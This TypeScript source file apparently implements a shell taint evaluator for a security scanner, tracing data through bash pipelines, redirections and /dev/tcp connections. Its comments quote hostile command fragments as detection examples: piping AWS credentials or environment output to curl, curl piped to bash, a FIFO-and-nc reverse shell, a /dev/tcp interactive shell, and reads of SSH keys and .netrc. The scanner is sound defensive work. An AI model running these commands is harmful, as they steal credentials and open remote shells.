// Shell taint evaluator (bash/sh scripts, ```bash blocks of Markdown, and command lines other languages run
// through a shell). Every statement takes the data on its stdin and yields its stdout, so pipelines, command
// substitutions and redirections carry flows: `cat ~/.aws/credentials | curl -d @- …`, `curl … | bash`,
// `X=$(env); curl -d "$X" …`, `echo … >> ~/.bashrc`.
//
// Limits: variables are one scope per function (bash's dynamic scoping is not modelled), loops run once,
// `source` of another script is not followed, and aliases, arrays and `set --` are ignored.
import type { Analysis, FunctionSummary } from './engine.js';
import { envVar, fileRead, networkResponse, userInput, writeFile } from './library.js';
import type { SinkKind, SinkSite } from './rules.js';
import { loopElements } from './modules.js';
import { Scope } from './scope.js';
import { runCommand, type CommandContext } from './shell-commands.js';
import { field, fields, type CodeModule, type SyntaxNode } from './syntax.js';
import { concat, EMPTY, literal, plain, sourced, step, union, type Value } from './values.js';

interface Frame {
  scope: Scope;
  summary?: FunctionSummary;
  weak: number;
}

/** Embedded use: a command line run by Python/JS, reported at the host call, with WARDENARG<i> placeholders. */
export interface ShellHost {
  site: SinkSite;
  bindings: readonly Value[];
  summary: FunctionSummary | undefined;
}

const OUTPUT_REDIRECT = /^(?:\d?>>?|&>>?|>\|)$/;
const MARKER = /WARDENARG(\d+)/g;

export class ShellEvaluator {
  private readonly global = new Scope();
  private readonly functions = new Map<string, FunctionSummary>();

  constructor(private readonly a: Analysis, private readonly m: CodeModule, private readonly host?: ShellHost) {}

  /** Runs the script; returns its stdout. The second round sees what the first wrote to files and FIFOs
   *  (`cat fifo | sh -i | nc host port > fifo`). */
  run(stdin: Value = EMPTY): Value {
    return this.statement(this.m.root, { scope: this.global, summary: this.host?.summary, weak: 0 }, stdin);
  }

  private txt(node: SyntaxNode): string {
    return this.m.source.slice(node.start, node.end);
  }

  private at(node: SyntaxNode): string {
    return this.host ? this.host.site.at : this.a.at(this.m.file, node.start);
  }

  private site(node: SyntaxNode, kind: SinkKind, api: string, dest?: string): SinkSite {
    if (this.host) return { ...this.host.site, kind, api: `${this.host.site.api} → ${api}`, dest };
    return { kind, api, file: this.m.file, index: node.start, at: this.at(node), dest };
  }

  // ---- statements: stdin in, stdout out ------------------------------------------------------------------

  private statements(nodes: readonly SyntaxNode[], f: Frame, stdin: Value): Value {
    const outs: Value[] = [];
    for (const node of nodes) outs.push(this.statement(node, f, stdin));
    return outs.length === 1 ? outs[0]! : union(...outs); // one command keeps its text: X=$(echo …)
  }

  private statement(node: SyntaxNode, f: Frame, stdin: Value): Value {
    if (!this.a.tick()) return EMPTY;
    switch (node.type) {
      case 'program':
      case 'compound_statement':
      case 'subshell':
      case 'do_group':
      case 'list':
      case 'negated_command':
        return this.statements(node.children, f, stdin);
      case 'command':
        return this.command(node, f, stdin);
      case 'pipeline': {
        let data = stdin;
        for (const child of node.children) data = this.statement(child, f, data);
        return data;
      }
      case 'redirected_statement':
        return this.redirected(node, f, stdin);
      case 'variable_assignment':
        this.assign(node, f, false);
        return EMPTY;
      case 'variable_assignments':
        for (const child of node.children) this.assign(child, f, false);
        return EMPTY;
      case 'declaration_command': {
        const local = /^(?:local|declare|typeset)\b/.test(this.txt(node)) && f.scope !== this.global;
        for (const child of node.children) if (child.type === 'variable_assignment') this.assign(child, f, local);
        return EMPTY;
      }
      case 'function_definition':
        this.defineFunction(node);
        return EMPTY;
      case 'if_statement':
      case 'elif_clause':
      case 'else_clause':
      case 'while_statement':
      case 'until_statement':
      case 'case_statement':
      case 'case_item':
      case 'c_style_for_statement':
        return this.branch(node, f, stdin);
      case 'for_statement': {
        // `for f in ~/.ssh/id_rsa ~/.netrc` runs once per word (up to 8), so each keeps its text.
        const variable = field(node, 'variable');
        const values = fields(node, 'value').map((v) => this.word(v, f));
        const body = { ...node, children: node.children.filter((c) => c.field === 'body') };
        const outs: Value[] = [];
        for (const value of loopElements({ flows: union(...values).flows, items: values })) {
          if (variable) f.scope.bind(this.txt(variable), value, true);
          outs.push(this.branch(body, f, stdin));
        }
        return union(...outs);
      }
      case 'comment':
      case 'heredoc_body':
        return EMPTY;
      default:
        for (const child of node.children) this.word(child, f); // command substitutions inside tests etc.
        return EMPTY;
    }
  }

  private branch(node: SyntaxNode, f: Frame, stdin: Value): Value {
    f.weak++;
    const outs: Value[] = [];
    for (const child of node.children) outs.push(this.statement(child, f, stdin));
    f.weak--;
    return union(...outs);
  }

  private assign(node: SyntaxNode, f: Frame, local: boolean): void {
    const name = field(node, 'name');
    const value = field(node, 'value');
    if (!name) return;
    const v = step(value ? this.word(value, f) : EMPTY, this.at(node));
    if (local) f.scope.bind(this.txt(name), v, f.weak > 0);
    else f.scope.assign(this.txt(name), v, f.weak > 0);
  }

  private defineFunction(node: SyntaxNode): void {
    const name = this.txt(field(node, 'name') ?? node);
    const params = ['1', '2', '3', '4', '5', '6', '7', '8', '9'];
    const summary: FunctionSummary = { name, params, sinks: [], returns: EMPTY };
    const body = field(node, 'body');
    const frame: Frame = { scope: new Scope(this.global), summary, weak: 0 };
    // Registered first so a recursive call resolves (to an empty summary) instead of running as a command.
    this.functions.set(name, summary);
    if (body) summary.returns = this.statement(body, frame, EMPTY);
  }

  /** `cmd < in > out`, heredocs and herestrings; output redirected to a file is written there, not returned. */
  private redirected(node: SyntaxNode, f: Frame, stdin: Value): Value {
    let input = stdin;
    const outputs: SyntaxNode[] = [];
    let after: SyntaxNode | undefined;
    for (const r of node.children) {
      if (r.field === 'body') continue;
      if (r.type === 'heredoc_redirect') {
        const body = r.children.find((c) => c.type === 'heredoc_body');
        const quoted = /^<<-?\s*["'\\]/.test(this.txt(r));
        if (body) input = quoted ? literal(this.txt(body)) : this.stringParts(body, body.start, body.end, f);
        after = r.children.find((c) => c.type === 'pipeline' || c.type === 'command' || c.type === 'list');
      } else if (r.type === 'herestring_redirect') {
        input = union(...r.children.map((c) => this.word(c, f)));
      } else if (r.type === 'file_redirect') {
        const dest = field(r, 'destination') ?? r.children[r.children.length - 1];
        const op = dest ? this.m.source.slice(r.start, dest.start).trim().replace(/^\d+/, (d) => (d === '2' ? '2' : '')) : '';
        const target = dest ? this.word(dest, f) : EMPTY;
        const tcp = /^\/dev\/(?:tcp|udp)\/([^/]+)/.exec(target.text ?? '')?.[1];
        // `bash -i >& /dev/tcp/h/p 0>&1`, `exec 3<>/dev/tcp/h/p`: the connection is also what the command reads.
        if (tcp && dest) input = union(input, networkResponse(`data received from /dev/tcp/${tcp}`, this.at(dest), true));
        if (op === '<' && dest) input = this.readFile(target, dest);
        else if ((OUTPUT_REDIRECT.test(op) || op === '>&' || op === '<>') && !op.startsWith('2') && dest && (op !== '>&' || tcp)) outputs.push(dest);
      }
    }
    const body = field(node, 'body');
    let out = body ? this.statement(body, f, input) : input;
    if (after) out = this.statement(after, f, out);
    if (outputs.length === 0) return out;
    for (const dest of outputs) {
      const path = this.word(dest, f);
      const tcp = /^\/dev\/(?:tcp|udp)\/([^/]+)/.exec(path.text ?? '');
      if (tcp) {
        const site = this.site(dest, 'network', '/dev/tcp redirection', tcp[1]);
        this.a.sink(site, 'body', out, f.summary);
      } else writeFile(this.a, this.site(dest, 'exec', `redirection to ${path.text ?? 'a file'}`), path, out);
    }
    return EMPTY;
  }

  private readFile(path: Value, node: SyntaxNode): Value {
    const downloaded = this.a.downloadAt(path.text);
    if (downloaded) return downloaded;
    return union(path.flows.length > 0 ? plain(path) : undefined, fileRead(path, this.at(node)));
  }

  private command(node: SyntaxNode, f: Frame, stdin: Value): Value {
    for (const child of node.children) if (child.type === 'variable_assignment') this.assign(child, f, false);
    const nameNode = field(node, 'name');
    if (!nameNode) return EMPTY;
    const name = this.word(nameNode.children[0] ?? nameNode, f);
    const args = fields(node, 'argument').map((a) => this.word(a, f));
    const fn = name.text !== undefined ? this.functions.get(name.text) : undefined;
    if (fn) return this.a.applySummary(fn, args, this.at(node), f.summary);
    const ctx: CommandContext = {
      name, args, stdin, at: this.at(node), summary: f.summary, a: this.a,
      site: (kind, api, dest) => this.site(node, kind, api, dest),
      setVar: (variable, value) => f.scope.assign(variable, step(value, this.at(node)), f.weak > 0),
      readFile: (path) => this.readFile(path, node),
    };
    return runCommand(ctx);
  }

  // ---- words: values of arguments ------------------------------------------------------------------------

  private word(node: SyntaxNode, f: Frame): Value {
    if (!this.a.tick()) return EMPTY;
    switch (node.type) {
      case 'word':
      case 'number':
      case 'special_variable_name':
        return this.literal(this.txt(node).replace(/\\(.)/g, '$1'));
      case 'raw_string':
        return this.literal(this.txt(node).slice(1, -1));
      case 'ansi_c_string':
        return this.literal(this.txt(node).slice(2, -1));
      case 'string':
        return this.stringParts(node, node.start + 1, node.end - 1, f);
      case 'concatenation':
        return this.stringParts(node, node.start, node.end, f);
      case 'simple_expansion':
      case 'expansion':
        return this.expansion(node, f);
      case 'command_substitution':
      case 'process_substitution':
        return plain(this.statements(node.children, f, EMPTY));
      case 'arithmetic_expansion':
      case 'comment':
        return EMPTY;
      case 'command_name':
        return node.children[0] ? this.word(node.children[0], f) : this.literal(this.txt(node));
      default:
        for (const child of node.children) {
          if (child.type === 'command' || child.type === 'pipeline' || child.type === 'list') this.statement(child, f, EMPTY);
          else this.word(child, f);
        }
        return EMPTY;
    }
  }

  /** A double-quoted string or concatenation: literal gaps between the expansions inside it. */
  private stringParts(node: SyntaxNode, start: number, end: number, f: Frame): Value {
    const parts: Value[] = [];
    let cursor = start;
    for (const child of node.children) {
      if (child.type === 'string_content' || child.type === 'heredoc_content' || child.type === 'heredoc_end') continue;
      if (child.start > cursor) parts.push(this.literal(this.m.source.slice(cursor, child.start)));
      parts.push(this.word(child, f));
      cursor = child.end;
    }
    if (end > cursor) parts.push(this.literal(this.m.source.slice(cursor, end)));
    return parts.length === 1 ? parts[0]! : concat(parts);
  }

  /** Literal text; WARDENARG<i> placeholders of an embedded command become the host's values. */
  private literal(text: string): Value {
    if (!this.host || !text.includes('WARDENARG')) return literal(text);
    const parts: Value[] = [];
    let cursor = 0;
    for (const m of text.matchAll(MARKER)) {
      if (m.index > cursor) parts.push(literal(text.slice(cursor, m.index)));
      parts.push(this.host.bindings[Number(m[1])] ?? EMPTY);
      cursor = m.index + m[0].length;
    }
    if (cursor < text.length) parts.push(literal(text.slice(cursor)));
    return concat(parts);
  }

  private expansion(node: SyntaxNode, f: Frame): Value {
    const nameNode = node.children.find((c) => c.type === 'variable_name' || c.type === 'special_variable_name');
    if (!nameNode) return EMPTY;
    const raw = this.txt(node);
    if (/^\$\{[#!]/.test(raw)) return EMPTY; // ${#X} is a length, ${!X} an indirection we do not follow
    const name = this.txt(nameNode);
    const value = this.variable(name, node, f);
    const defaults = node.children.filter((c) => c !== nameNode).map((c) => this.word(c, f)); // ${X:-default}
    return defaults.length === 0 ? value : { flows: union(value, ...defaults).flows, text: value.text ?? defaults[0]?.text };
  }

  private variable(name: string, node: SyntaxNode, f: Frame): Value {
    const local = f.scope.lookup(name);
    if (local) return local;
    const at = this.at(node);
    if (/^[1-9]$/.test(name) || name === '@' || name === '*') {
      if (this.host) return EMPTY;
      if (f.summary && f.scope !== this.global) {
        const indexes = /^[1-9]$/.test(name) ? [Number(name) - 1] : [0, 1, 2, 3];
        return union(...indexes.map((i) => sourced({ kind: 'param', label: `$${i + 1}`, at, param: i })));
      }
      return userInput(`script argument $${name}`, at);
    }
    if (/^[0#?$!_-]$/.test(name) || name === 'REPLY') return EMPTY;
    if (this.host && name.startsWith('WARDENARG')) return this.host.bindings[Number(name.slice(9))] ?? EMPTY;
    return envVar(name, `$${name}`, at);
  }
}
